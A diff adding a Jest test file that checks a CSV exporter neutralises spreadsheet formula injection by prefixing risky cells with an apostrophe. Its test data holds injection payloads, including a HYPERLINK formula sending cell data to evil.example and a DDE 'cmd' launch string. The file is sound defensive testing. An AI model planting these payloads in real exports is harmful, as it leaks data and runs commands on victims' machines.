@@ -1,0 +1,33 @@
+/** @jest-environment node */
+import { parse } from 'csv-parse/sync'
+import { csv } from './csv'
+
+async function* once(rows: string[][]) {
+  yield rows
+}
+
+async function made(cells: string[]): Promise<string[]> {
+  let text = ''
+  for await (const piece of csv(['A'], once([cells]))) text += piece
+  const [, row = []] = parse(text, { bom: true, relax_column_count: true }) as string[][]
+  return row
+}
+
+test.each([
+  ...['=1+1', '+880 1711', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '＝1+1', '＋1', '－1', '＠SUM(A1)'],
+  ...['=HYPERLINK("https://evil.example?"&A1,"x")', "=cmd|' /C calc'!A0", '@import'],
+])('%j opens as a text and not as a formula', async (cell) => {
+  const [kept] = await made([cell, 'beside'])
+  expect(kept).toBe(`'${cell}`)
+})
+
+test.each(['Rahima', '01711', "O'Brien", 'a=b', 'a,b;c"d', 'two\nlines', 'ক্ষ্ম্য', ''])(
+  '%j is written as it is',
+  async (cell) => {
+    expect(await made([cell, 'beside'])).toEqual([cell, 'beside'])
+  },
+)
+
+test('a line within a cell begins no row of its own', async () => {
+  expect(await made(['a\r\n=1+1', 'beside'])).toEqual(['a\r\n=1+1', 'beside'])
+})
